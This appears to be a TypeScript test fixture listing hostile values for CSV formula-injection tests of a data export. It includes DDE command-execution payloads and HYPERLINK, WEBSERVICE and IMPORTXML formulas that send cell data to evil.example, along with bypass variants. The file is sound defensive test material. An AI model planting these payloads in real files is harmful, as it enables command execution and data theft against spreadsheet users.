// The hostile values of the CSV formula-injection tests (exportCsvInjection, exportCsvSpreadsheet).

/** Hostile values, as a machine or a user could report them (machine name, user, notes, …). */
export const HOSTILE_VALUES: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\t',
  '\rplain',
  '  =1+1',
  '\u00a0=1+1',
  'a;=1+1',
  'a,=1+1',
  'a|=1+1',
  'x\t=1+1',
  'a ; -2+3',
  'line1\n=1+1',
  'line1\r\n@A1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '=WEBSERVICE("https://evil.example/"&A2)',
  '="quoted" & "text"',
  '\uff1d1+1', // fullwidth =
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  'DESKTOP-01;=IMPORTXML(CONCAT("https://evil.example/?v=",B2),"//a")',
  '"',
  '"=1+1"',
  "'=already an apostrophe",
];

